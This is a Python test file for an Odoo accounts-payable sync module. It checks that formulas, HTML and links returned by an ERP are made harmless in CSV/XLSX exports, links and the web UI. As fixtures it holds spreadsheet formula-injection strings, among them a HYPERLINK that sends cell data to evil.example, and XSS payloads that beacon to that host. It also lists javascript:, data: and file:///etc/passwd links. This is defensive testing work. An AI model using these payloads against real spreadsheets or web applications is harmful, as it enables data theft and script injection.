import csv
import io
import json
import zipfile
from unittest.mock import patch
from xml.etree import ElementTree

from odoo.exceptions import UserError
from odoo.tests import BaseCase, HttpCase

from ..connectors import Outcome, Receipt
from ..connectors.base import ConnectorError, ErpRecord, Settings
from ..connectors.incoming import Guarded, plain, web_link
from .common import ApSyncCommon, FakeErp, error

#: A spreadsheet runs these; the last ones hide the sign behind what it leaves out.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "{=1+1}",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "external:\\\\evil.example\\share",
)
#: A browser runs these where text is taken for HTML.
HTML = (
    "<script>window.apSyncHit = 1</script>",
    '<img src="https://evil.example/beacon.png" onerror="window.apSyncHit = 1">',
    '"><svg onload="window.apSyncHit = 1">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="javascript:window.apSyncHit = 1">Click</a>',
    "<style>@import 'https://evil.example/style.css'</style>",
    '<t t-esc="1"/>{{ 7 * 7 }}<b>bold</b>',
)
LINKS = (
    "javascript:window.apSyncHit=1",
    "JaVaScRiPt:window.apSyncHit=1",
    " javascript:window.apSyncHit=1",
    "java\nscript:window.apSyncHit=1",
    "data:text/html,<script>window.apSyncHit=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example",
    "https://",
    "https://[",
    "",
)


def is_formula(cell):
    return cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@", "{=", "＝"))


class TestPlainTexts(BaseCase):
    """What an ERP says is made harmless where it comes in."""

    def test_no_text_begins_like_a_formula(self):
        for text in FORMULAS:
            with self.subTest(text):
                self.assertTrue(plain(text).startswith("'"), plain(text))
                self.assertFalse(is_formula(plain(text)))

    def test_other_texts_stay_as_they_are(self):
        for text in ("BILL/2026/0001", "1-2=3", "a@b.example", "Ä\nö", "'x'"):
            self.assertEqual(plain(text), text)

    def test_only_web_links_are_links(self):
        for link in LINKS:
            with self.subTest(link):
                self.assertEqual(web_link(link), "")
        good = "https://erp.example.com:8069/odoo/action-1/7?x=1#y"
        self.assertEqual(web_link(good), good)

    def test_all_that_a_connector_returns_is_plain(self):
        evil = "=1+1\x00\u202e"
        secret = "secret-canary-key"

        class Evil(FakeErp):
            def send(self, document, **_options):
                return Receipt("7", evil, LINKS[0], notes=(evil + secret,))

            def look_up(self, document, **_options):
                return [self.send(document)]

            def fetch(self, kind, **_options):
                yield ErpRecord(kind, "8", evil, evil, evil)
                yield ErpRecord(kind, "=8", "An id can't be mended")

            def lock_date(self, **_options):
                words = evil + secret
                raise ConnectorError("no_answer", words, excerpt=words)

        erp = Guarded(Evil(), Settings("https://erp.example.com", secret))
        for receipt in (erp.send(None), *erp.look_up(None)):
            self.assertEqual(receipt.number, "'=1+1")
            self.assertEqual(receipt.url, "")
            self.assertEqual(receipt.notes, ("'=1+1[hidden]",))
        [record] = erp.fetch("vendor")
        self.assertEqual((record.name, record.code, record.detail), ("'=1+1",) * 3)
        with self.assertRaises(ConnectorError) as caught:
            erp.lock_date()
        for text in (caught.exception.message, caught.exception.excerpt):
            self.assertEqual(text, "'=1+1[hidden]")

    def test_an_id_that_can_not_be_one_is_an_unclear_answer(self):
        for erp_id in ("", "=1", "1\n2", "x" * 999):
            erp = FakeErp()
            with patch.object(
                erp, "send", lambda *a, erp_id=erp_id, **o: Receipt(erp_id)
            ):
                guarded = Guarded(erp, Settings("https://erp.example.com", ""))
                with self.subTest(erp_id):
                    with self.assertRaises(ConnectorError) as caught:
                        guarded.send(None)
                    self.assertEqual(caught.exception.outcome, Outcome.AMBIGUOUS)


class TestHostileErp(ApSyncCommon, HttpCase):
    """An ERP that sends formulas and HTML, up to people's screens and files."""

    # `common.py` does it for each test.
    registry_test_mode = False

    def setUp(self):
        super().setUp()
        self.env.user.group_ids |= self.env.ref("base.group_allow_export")
        self.jobs = self.env["ap.sync.job"]
        for number, text in enumerate((*FORMULAS, *HTML)):
            link = LINKS[number % len(LINKS)]
            refusal = error("invalid_data", Outcome.REJECTED, excerpt=text)
            refusal.message = text
            for step in (refusal, {"number": text, "url": link, "notes": (text,)}):
                self.erp.script = [step]
                self.jobs |= self.submit(
                    self.make_bill(invoice_user_id=self.env.user.id)
                )
                self.dispatch()
        failed = self.jobs.filtered(lambda job: job.status == "failed")
        self.assertEqual(len(failed) * 2, len(self.jobs))

    # -- Spreadsheets

    FIELDS = {
        "ap.sync.job": [
            "message",
            "guidance",
            "erp_number",
            "erp_id",
            "erp_url",
            "notes",
            "causes",
        ],
        "ap.sync.attempt": ["message", "excerpt", "erp_number", "erp_id"],
        "account.move": ["ap_sync_message", "ap_sync_url", "ap_sync_causes"],
    }

    def export(self, kind, model, records, **options):
        """Return what a list's *Export* downloads."""
        fields = self.FIELDS[model]
        data = {
            "model": model,
            "fields": [
                {"name": name, "label": name, "type": "char", "value": name}
                for name in fields
            ],
            "ids": records.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
            "context": {},
            **options,
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": self.csrf_token()},
        )
        self.assertEqual(response.status_code, 200, response.text[:2000])
        return response.content

    def exported(self):
        yield "ap.sync.job", self.jobs
        yield "ap.sync.attempt", self.jobs.attempt_ids
        yield "account.move", self.jobs.move_id

    def test_no_cell_of_an_export_is_a_formula(self):
        self.authenticate(self.env.user.login, self.env.user.login)
        for model, records in self.exported():
            text = self.export("csv", model, records).decode()
            rows = list(csv.reader(io.StringIO(text)))[1:]
            with self.subTest(model, kind="csv"):
                self.assertEqual(len(rows), len(records))
                cells = [cell for row in rows for cell in row]
                self.assertTrue(any("HYPERLINK" in cell for cell in cells))
                self.assertFalse([cell for cell in cells if is_formula(cell)])
            book = self.export("xlsx", model, records)
            with self.subTest(model, kind="xlsx"):
                self.assertIn("HYPERLINK", self.part(book, "xl/sharedStrings.xml"))
                self.assert_no_formula(book)

    def test_no_group_of_an_export_is_a_formula(self):
        self.authenticate(self.env.user.login, self.env.user.login)
        book = self.export(
            "xlsx",
            "ap.sync.job",
            self.jobs,
            ids=False,
            domain=[("id", "in", self.jobs.ids)],
            groupby=["erp_number"],
        )
        self.assertIn("HYPERLINK", self.part(book, "xl/sharedStrings.xml"))
        self.assert_no_formula(book)

    def part(self, book, name):
        with zipfile.ZipFile(io.BytesIO(book)) as file:
            return file.read(name).decode()

    def assert_no_formula(self, book):
        sheet = ElementTree.fromstring(self.part(book, "xl/worksheets/sheet1.xml"))
        names = {element.tag.rpartition("}")[2] for element in sheet.iter()}
        self.assertIn("c", names)
        self.assertNotIn("f", names, "a formula")
        # An address becomes a link, which is harmless; a file must not.
        with zipfile.ZipFile(io.BytesIO(book)) as file:
            for name in file.namelist():
                if name.endswith(".rels"):
                    self.assertNotIn(b"evil.example\\share", file.read(name))

    # -- Links

    def test_nothing_but_a_web_address_is_opened(self):
        done = self.jobs.filtered(lambda job: job.status == "success")
        self.assertEqual(set(done.mapped("erp_url")), {False})
        for link in LINKS:
            # Whatever way it came in.
            done[0].sudo().erp_url = link
            with self.subTest(link), self.assert_refused(UserError, "gave no link"):
                done[0].action_open_erp()
        done[0].sudo().erp_url = "https://erp.example.com/odoo/7"
        opened = done[0].action_open_erp()
        self.assertEqual(opened["url"], "https://erp.example.com/odoo/7")

    # -- Screens

    LOOK = """
        (async () => {
            const sleep = (time) => new Promise((done) => setTimeout(done, time));
            const until = async (find) => {
                for (let tries = 0; tries < 200; tries++) {
                    const found = find();
                    if (found) { return found; }
                    await sleep(50);
                }
                throw new Error("not found: " + find);
            };
            const bad = [
                "img[src*='evil.example']", "iframe[src*='evil.example']",
                ".o_action_manager script", "svg[onload]", "[onerror]",
                "a[href^='data:']", "a[href^='vbscript:']", "a[href*='apSyncHit']",
                "link[href*='evil.example']",
            ].join(",");
            const check = (where) => {
                const found = document.querySelector(bad);
                if (found) { throw new Error(where + ": " + found.outerHTML); }
                if (window.apSyncHit) { throw new Error(where + ": code has run"); }
                const calls = performance.getEntriesByType("resource")
                    .map((entry) => entry.name)
                    .filter((name) => name.includes("evil.example"));
                if (calls.length) { throw new Error(where + ": " + calls.join()); }
            };
            await until(() => document.querySelector("%(ready)s"));
            await sleep(300);
            check("the page");
            for (const badge of document.querySelectorAll("[data-tooltip-info]")) {
                badge.dispatchEvent(new MouseEvent("mouseenter", {bubbles: true}));
                await until(() => document.querySelector(".o-tooltip"));
                check("a tooltip");
                badge.dispatchEvent(new MouseEvent("mouseleave", {bubbles: true}));
                badge.dispatchEvent(new MouseEvent("click", {bubbles: true}));
                await until(() => !document.querySelector(".o-tooltip"));
            }
            if (!document.body.innerText.includes("%(text)s")) {
                throw new Error("the text is not shown");
            }
            console.log("test successful");
        })().catch((error) => console.error(error.message));
    """

    def look(self, url, ready, text):
        self.browser_js(
            url,
            self.LOOK % {"ready": ready, "text": text},
            login=self.env.user.login,
            timeout=120,
        )

    def test_nothing_of_it_becomes_an_element_or_calls_anybody(self):
        image = "evil.example/beacon.png"
        failed = self.jobs.filtered(lambda j: image in (j.message or ""))
        done = self.jobs.filtered(lambda j: image in (j.erp_number or ""))
        # As if it had come in another way, past all that makes it harmless.
        failed.sudo().write({"guidance": HTML[1], "notes": HTML[0]})
        done.sudo().write({"erp_url": LINKS[0], "erp_number": HTML[1]})
        self.connection.sudo()._set_attention("credentials_wrong", HTML[1])
        self.connection.sudo().check_result = [
            {"name": HTML[1], "ok": False, "message": HTML[0], "todo": HTML[2]}
        ]
        cells = ".o_data_row .badge"
        for url, ready, text in (
            ("/odoo/ap-sync-jobs", cells, "beacon.png"),
            (f"/odoo/ap-sync-jobs/{failed.id}", ".o-mail-Chatter", "beacon.png"),
            (f"/odoo/ap-sync-jobs/{done.id}", ".o-mail-Chatter", "beacon.png"),
            (
                f"/odoo/vendor-bills/{failed.move_id.id}",
                ".o-mail-Message",
                "beacon.png",
            ),
            (
                f"/odoo/action-ap_sync.ap_sync_connection_action/{self.connection.id}",
                ".o-mail-Message",
                "beacon.png",
            ),
        ):
            with self.subTest(url):
                self.look(url, ready, text)
